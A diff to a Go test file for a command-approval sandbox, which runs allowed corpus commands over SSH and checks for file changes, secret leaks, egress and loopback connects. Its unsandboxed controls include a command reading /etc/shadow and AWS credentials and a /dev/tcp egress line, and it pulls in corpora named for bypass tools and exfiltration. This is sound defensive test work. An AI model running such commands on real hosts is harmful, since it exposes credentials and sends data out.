@@ -4,6 +4,8 @@ import (
 	"crypto/rand"
 	"encoding/hex"
 	"os"
+	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -46,6 +48,10 @@ const (
 	controlWrite  = "touch /srv/opsbot-control-write"
 	controlRead   = "cat /etc/shadow /root/.aws/credentials"
 	controlEgress = "echo > /dev/tcp/198.51.100.7/9"
+	// A command given the network runs in sshd's network namespace, as
+	// on a host it would run in the host's: its loopback connects must
+	// go to the ports the policy allowed.
+	controlLoopback = "echo > /dev/tcp/127.0.0.1/6379"
 )
 
 // TestAllowedCorpusOverSSH runs every corpus line the policy allows on an
@@ -69,7 +75,13 @@ const (
 func TestAllowedCorpusOverSSH(t *testing.T) {
 	t.Parallel()
 	start := time.Now()
-	p := defaultPolicy(t)
+	// The default policy, with this loopback fleet's own destinations
+	// allowed: the lines that reach them run with the network (sshd's
+	// namespace, where nothing but sshd listens), as they would on a host.
+	p, err := approvals.NewPolicy(approvals.PolicyConfig{EgressAllow: []string{"localhost", "127.0.0.1", "[::1]"}})
+	if err != nil {
+		t.Fatal(err)
+	}
 	marker := "opsbot-seeded-secret-" + randomHex(t)
 	secrets := map[string]string{}
 	for _, s := range seededSecrets {
@@ -110,8 +122,13 @@ func TestAllowedCorpusOverSSH(t *testing.T) {
 	}
 	changed := checkChanges(t, rep)
 	egress := checkEgress(t, rep)
-	t.Logf("%d allowed corpus lines run over SSH in the remote sandbox: %d changed paths, %d secret markers in output, %d egress attempts (%d loopback), %d files opened for writing unchanged; %v",
-		len(lines), changed, leaks, egress, len(rep.Loopback), len(rep.Copied), time.Since(start).Round(time.Second))
+	ports, networked := allowedPorts(opts)
+	reached, loopback := checkLoopback(t, rep, ports)
+	if networked > 0 && reached == 0 {
+		t.Errorf("%d lines were allowed a destination, yet no connect to one was seen: the check of where they go sees nothing", networked)
+	}
+	t.Logf("%d allowed corpus lines run over SSH in the remote sandbox (%d with a network destination, ports %v): %d changed paths, %d secret markers in output, %d egress attempts, %d loopback connects to allowed ports, %d to others, %d files opened for writing unchanged; %v",
+		len(lines), networked, ports, changed, leaks, egress, reached, loopback, len(rep.Copied), time.Since(start).Round(time.Second))
 }
 
 // allowedRemote are the corpus lines the policy allows on an SSH host,
@@ -119,7 +136,7 @@ func TestAllowedCorpusOverSSH(t *testing.T) {
 func allowedRemote(t *testing.T, p *approvals.Policy) ([]Line, []hosts.Options) {
 	var lines []Line
 	var opts []hosts.Options
-	for _, l := range readCorpora(t, corpusFiles...) {
+	for _, l := range remoteCorpus(t) {
 		d := p.Check(target, l.Command)
 		if d.Action != approvals.Allow || strings.ContainsRune(l.Command, 0) {
 			continue // TestAllowedCorpusChangesNothing fails on a NUL
@@ -131,6 +148,31 @@ func allowedRemote(t *testing.T, p *approvals.Policy) ([]Line, []hosts.Options) 
 		t.Fatalf("only %d corpus commands are allowed; the harmless corpus alone should give 300", len(lines))
 	}
 	return lines, opts
+}
+
+// verdictFiles are corpora of approvals/testdata whose lines start with
+// the verdict they must get (none allow): any line the policy allows all
+// the same runs too.
+var verdictFiles = []string{"../testdata/bypass_tools.txt", "../testdata/exfil.txt"}
+
+// remoteCorpus is every corpus line: those the local harness runs, the
+// everyday tool commands, and the verdict corpora without their verdicts.
+func remoteCorpus(t *testing.T) []Line {
+	lines := readCorpora(t, append(slices.Clone(corpusFiles), "../testdata/harmless_tools.txt")...)
+	for _, name := range verdictFiles {
+		for _, l := range readCorpora(t, name) {
+			_, command, _ := strings.Cut(l.Command, " ")
+			if q, ok := strings.CutPrefix(command, "q:"); ok {
+				var err error
+				if command, err = strconv.Unquote(q); err != nil {
+					t.Fatalf("%s: %v", l.Where, err)
+				}
+			}
+			l.Command = command
+			lines = append(lines, l)
+		}
+	}
+	return lines
 }
 
 // runRemote runs the lines over the pool's one connection, as many at
@@ -164,7 +206,7 @@ func runRemote(t *testing.T, pool *hosts.Pool, h hosts.Host, lines []Line, opts 
 // runControls runs the controls unsandboxed and returns their outputs.
 func runControls(t *testing.T, pool *hosts.Pool, h hosts.Host) map[string]string {
 	out := map[string]string{}
-	for _, c := range []string{controlWrite, controlRead, controlEgress} {
+	for _, c := range []string{controlWrite, controlRead, controlEgress, controlLoopback} {
 		res, err := pool.Run(t.Context(), h, c, hosts.Options{Timeout: DefaultDeadline}, nil)
 		if err != nil {
 			t.Fatalf("control %q: %v", c, err)
@@ -214,6 +256,47 @@ func checkEgress(t *testing.T, rep Report) int {
 		t.Errorf("the unsandboxed control %q was not seen: the egress check sees nothing", controlEgress)
 	}
 	return n
+}
+
+// allowedPorts are the ports of every network destination the policy
+// allowed a line, and how many lines have one.
+func allowedPorts(opts []hosts.Options) (ports []uint16, lines int) {
+	for _, o := range opts {
+		if len(o.Sandbox.ConnectPorts) > 0 {
+			lines++
+			ports = append(ports, o.Sandbox.ConnectPorts...)
+		}
+	}
+	slices.Sort(ports)
+	return slices.Compact(ports), lines
+}
+
+// checkLoopback fails on every loopback connect or send to a port no line
+// was allowed, but the loopback control's (which must be there) and sshd's
+// own at its start (resolving ListenAddress: a connect of a datagram
+// socket to the unspecified address at port 22, which sends nothing);
+// it returns how many went to allowed ports, and how many elsewhere. A sandbox without network has a loopback of
+// its own, where nothing listens; a line allowed the network shares
+// sshd's.
+func checkLoopback(t *testing.T, rep Report, allowed []uint16) (reached, others int) {
+	control := false
+	for _, a := range rep.Loopback {
+		port, _ := strconv.Atoi(a.Port)
+		switch {
+		case a.Addr == "127.0.0.1" && a.Port == "6379":
+			control = true
+		case (a.Addr == "::" || a.Addr == "0.0.0.0") && a.Port == "22":
+		case slices.Contains(allowed, uint16(port)):
+			reached++
+		default:
+			others++
+			t.Errorf("a loopback connect to a port no line was allowed: %s", a)
+		}
+	}
+	if !control {
+		t.Errorf("the unsandboxed control %q was not seen: the loopback check sees nothing", controlLoopback)
+	}
+	return reached, others
 }
 
 func randomHex(t *testing.T) string {
